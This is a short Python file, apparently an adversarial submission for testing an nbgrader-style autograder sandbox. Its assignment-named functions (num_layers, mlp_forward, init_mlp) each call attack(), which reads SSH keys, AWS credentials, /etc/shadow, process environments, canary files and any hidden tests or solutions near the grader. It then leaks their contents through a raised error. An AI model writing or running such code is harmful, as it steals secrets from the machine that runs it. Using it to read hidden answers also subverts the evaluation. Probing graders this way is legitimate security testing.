# hostile: opens the paths where secrets usually are, and those that its environment names
# verdict: failed error
# layers: each
import glob
import os
import pathlib
import sys

PATTERNS = (
    "~/.ssh/*",
    "~/.aws/credentials",
    "~/.netrc",
    "~/.bash_history",
    "~/.jupyter/*",
    "~/.cache/**/*canary*",
    "/roo[t]/**/*canary*",
    "/home/**/*canary*",
    "/etc/shadow",
    "/etc/passwd",
    "/srv/nbgrader/**/*",
    "/usr/local/share/nbgrader/**/*",
    "/tmp/**/*canary*",
    "/var/**/*canary*",
    "/dev/shm/*",
    "/run/**/*",
    "/proc/1/environ",
    "/proc/*/cmdline",
    "/proc/self/environ",
    "/proc/self/mountinfo",
)


def attack():
    found = []
    here = pathlib.Path(sys.modules["grader"].__file__).resolve()
    near = [str(parent / "**" / "*canary*") for parent in list(here.parents)[1:5]]
    near += [str(parent / name) for parent in here.parents for name in ("tests/hidden/*", "solutions/*")]
    for pattern in (*PATTERNS, *near):
        for path in glob.iglob(os.path.expanduser(pattern), recursive=True):
            try:
                found.append(open(path, errors="replace").read(500))
            except OSError:
                pass
    raise RuntimeError("FOUND " + " ".join(found)[:3500])


def num_layers(params):
    attack()
    return 3


def mlp_forward(params, x):
    attack()
    return x


def init_mlp(key, sizes):
    attack()
    return {}
